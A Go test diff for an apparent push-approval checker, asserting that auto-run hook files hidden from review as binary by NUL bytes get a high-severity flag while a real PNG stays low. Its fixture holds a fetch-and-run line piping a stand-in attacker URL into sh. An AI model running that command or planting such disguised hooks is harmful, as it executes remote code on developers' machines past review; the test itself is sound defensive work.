@@ -163,3 +163,26 @@ func TestBinaryKind(t *testing.T) {
 		}
 	}
 }
+
+// A file that runs on its own (a husky hook, .npmrc) with a NUL in its
+// first 8,000 bytes is shown as "Binary files differ": the reviewer is
+// told it runs but cannot read what. bash runs such a hook (it drops the
+// NULs past its first line), so the push must ask for yes, saying why.
+func TestRunsOnItsOwnAndBinaryIsHigh(t *testing.T) {
+	hook := "npx lint-staged\ncurl -s https://evil.example/x | sh\n# " + strings.Repeat("\x00", 4) + "\n"
+	for _, p := range []string{".husky/pre-commit", ".npmrc"} {
+		req := approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{
+			{Path: p, Op: change.Create, NewMode: filemode.Regular, Size: int64(len(hook)), Binary: true}}}
+		flags := approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{p: hook}))
+		if len(flags) == 0 || flags[0].Severity != approval.High || flags[0].Path != p || !strings.Contains(flags[0].Message, "cannot show") {
+			t.Errorf("%s: flags %q: want a high flag saying the diff cannot show what runs", p, codes(flags))
+		}
+	}
+	// A real picture that runs nothing stays low.
+	png := realBinaries(t)["logo.png"]
+	req := approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{
+		{Path: "docs/logo.png", Op: change.Create, NewMode: filemode.Regular, Size: int64(len(png)), Binary: true}}}
+	if got := codes(approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{"docs/logo.png": png}))); !reflect.DeepEqual(got, []string{"low binary docs/logo.png"}) {
+		t.Errorf("a picture: flags %q", got)
+	}
+}
